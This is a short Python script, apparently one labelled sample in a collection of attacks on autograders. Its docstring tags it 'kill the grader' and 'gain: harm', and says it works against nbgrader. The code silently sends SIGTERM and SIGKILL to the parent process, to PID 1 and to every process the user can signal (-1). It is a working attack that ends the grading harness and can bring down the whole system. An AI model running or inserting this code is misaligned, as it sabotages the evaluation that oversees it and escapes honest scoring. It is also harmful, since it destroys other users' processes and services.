"""Send signals to whoever may be grading.

class: kill the grader
gain: harm
nbgrader: works
"""

import contextlib
import os
import signal

for target in (os.getppid(), 1, -1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(target, number)
